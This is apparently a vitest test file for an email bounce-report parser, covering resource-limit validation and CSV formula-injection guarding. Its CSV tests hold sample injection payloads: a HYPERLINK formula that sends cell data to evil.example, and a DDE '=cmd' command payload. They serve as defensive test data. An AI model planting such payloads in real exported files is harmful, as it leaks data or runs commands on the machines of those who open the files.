// Issue 17: the hostile environment cases (hostile-env.ts) through the real CLI, the quick
// ones; `npm run hostile` runs them all with their times and peak memory. Also the two
// items that are the library's own: limits validated, CSV cells that spreadsheets would run.
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS, resolveLimits, type Limits } from '../../src/0-core/limits.js';
import { csvRows } from '../../src/7-output/csv.js';
import { emptyResult, parseMessage } from '../../src/8-pipeline/parse.js';
import { parseInputs } from '../../src/8-pipeline/run.js';
import type { ParseResult, RecipientRow } from '../../src/0-core/schema.js';
import { runCli } from '../helpers/cli.js';
import { ENV_CASES } from './hostile-env.js';

describe('hostile environments (issue 17)', () => {
  for (const c of ENV_CASES.filter((x) => !x.slow)) {
    const why = c.skip?.() ?? null;
    it.skipIf(why !== null)(`${c.item}. ${c.name}: ${c.what}${why ? ` (skipped: ${why})` : ''}`, { timeout: 60_000 }, async () => {
      await expect(c.run()).resolves.toBeUndefined();
    });
  }
});

describe('limits from the library (issue 17, item 11)', () => {
  const msg = Buffer.from('From: a@example.org\r\nSubject: x\r\n\r\nhello\r\n');
  const bad: [keyof Limits, unknown][] = [
    ['maxMessageBytes', NaN],
    ['maxRecipients', -1],
    ['maxRecipients', 0],
    ['maxMimeDepth', 1.5],
    ['maxFieldLength', '5'],
    ['maxLineLength', -Infinity],
    ['maxHeaderBytes', null],
  ];
  for (const [name, value] of bad)
    it(`${name}: ${String(value)} is refused with an error naming the limit`, async () => {
      await expect(parseMessage(msg, 'x', { limits: { [name]: value } as Partial<Limits> })).rejects.toThrow(new RegExp(`${name} must be a positive integer`));
      await expect(parseInputs(['x'], { limits: { [name]: value } as Partial<Limits> }).next()).rejects.toThrow(new RegExp(name));
    });

  it('an unknown limit name is refused', () => {
    expect(() => resolveLimits({ maxRecipient: 5 } as unknown as Partial<Limits>)).toThrow(/unknown limit "maxRecipient"/);
  });

  it('positive integers and Infinity (no limit) are taken', async () => {
    expect(resolveLimits({ maxRecipients: 3, maxMessageBytes: Infinity })).toEqual({ ...DEFAULT_LIMITS, maxRecipients: 3, maxMessageBytes: Infinity });
    const all = Object.fromEntries(Object.keys(DEFAULT_LIMITS).map((k) => [k, Infinity])) as unknown as Limits;
    const r = await parseMessage(msg, 'x', { limits: all });
    expect(r.error).toBeNull();
  });

  it('maxRecipients: -1 no longer drops the last row in silence (it is refused)', async () => {
    // before: drafts.slice(0, -1) kept all rows but the last
    await expect(parseMessage(msg, 'x', { limits: { maxRecipients: -1 } })).rejects.toThrow(RangeError);
  });
});

describe('CSV cells a spreadsheet would read as formulas (issue 17, item 12)', () => {
  const row = (diagnosticCode: string, recipient = 'a@example.net'): ParseResult => ({
    ...emptyResult('x.eml'),
    kind: 'dsn',
    recipients: [{ recipient, diagnosticCode, fields: {} } as unknown as RecipientRow],
  });
  const col = (name: string, r: ParseResult, formulas?: 'guard' | 'keep') => {
    const header = ['source', 'kind', 'format', 'error', 'recipient', 'displayName', 'originalRecipient', 'action', 'status', 'reason', 'bounceType', 'smtpReplyCode', 'smtpCommand', 'diagnosticType', 'diagnosticCode'];
    return csvRows(r, { formulas })[0][header.indexOf(name)];
  };

  // OWASP CSV Injection: = + - @ tab and carriage return start a formula
  for (const start of ['=', '+', '-', '@', '\t', '\r'])
    it(`a cell beginning with ${JSON.stringify(start)} gets a ' first and is quoted`, () => {
      const v = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
      expect(col('diagnosticCode', row(v))).toBe(`"'${v.replace(/"/g, '""')}"`);
    });

  it('other cells are as before; --raw-csv (formulas: keep) writes them all exactly', () => {
    expect(col('diagnosticCode', row('550 5.1.1 user unknown'))).toBe('550 5.1.1 user unknown');
    expect(col('diagnosticCode', row('a "b", c'))).toBe('"a ""b"", c"');
    expect(col('recipient', row('x', '=cmd|" /C calc"!A0'), 'keep')).toBe('"=cmd|"" /C calc""!A0"');
    expect(col('recipient', row('x', '@evil'), 'keep')).toBe('@evil');
  });

  it('through the CLI: guarded by default, exact with --raw-csv', async () => {
    // a Diagnostic-Code that begins with '=' after its type (RFC 3464 §2.3.6: diagnostic-type; text)
    const dsn = [
      'From: MAILER-DAEMON@mx.example.org',
      'Subject: failed',
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary="B"',
      '',
      '--B',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mx.example.org',
      '',
      'Final-Recipient: rfc822; a@example.net',
      'Action: failed',
      'Status: 5.1.1',
      'Diagnostic-Code: smtp; =1+2',
      '',
      '--B--',
      '',
    ].join('\r\n');
    const guarded = await runCli(['--format', 'csv', '-'], { input: dsn });
    expect(guarded.stdout.split('\r\n')[1]).toContain(",\"'=1+2\",");
    const raw = await runCli(['--format', 'csv', '--raw-csv', '-'], { input: dsn });
    expect(raw.stdout.split('\r\n')[1]).toContain(',=1+2,');
  });
});
